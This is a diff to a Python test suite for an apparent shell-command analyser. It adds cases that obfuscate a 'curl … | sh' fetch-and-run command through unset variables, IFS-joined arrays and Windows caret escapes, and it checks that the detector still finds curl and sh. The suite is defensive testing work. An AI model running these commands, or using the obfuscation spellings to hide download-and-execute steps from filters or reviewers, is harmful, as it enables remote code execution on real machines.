@@ -156,6 +156,8 @@ MORE = {
     "a line continued": "cu\\\nrl -s http://192.0.2.1/i | s\\\nh",
     "a brace list": "{curl,-s,http://192.0.2.1/i}|{sh,}",
     "letters cut from a word": "x=abcurl;${x:2} -s http://192.0.2.1/i|${x:0:0}sh",
+    "variables that nobody set": "c${z}u${z}rl -s http://192.0.2.1/i | s${z}h",
+    "an array without separators": "a=(c u r l); IFS=; ${a[*]} http://192.0.2.1/i | sh",
     "words that are read": "read a b <<< 'cu rl'; $a$b -s http://192.0.2.1/i | sh",
     "a reply that is read": "read -r <<< 'curl'; $REPLY -s http://192.0.2.1/i | sh",
     "parameters that are shifted": "set -- x cu rl; shift; $1$2 -s http://192.0.2.1/i | sh",
@@ -168,6 +170,11 @@ def test_what_is_run_is_found_however_it_is_put_together(script: str) -> None:
     """The programs that start are the same, whatever spelled them."""
     names = {call.argv[0] for call in read_script(script).calls}
     assert {"curl", "sh"} <= names
+
+
+def test_carets_of_the_windows_shell_are_nothing() -> None:
+    """They only hide the letters behind them."""
+    assert "curl" in {call.argv[0] for call in read_argv(["cmd", "/c", "cu^rl http://192.0.2.1/i"]).calls}
 
 
 def test_a_call_has_its_files_and_what_feeds_it() -> None:
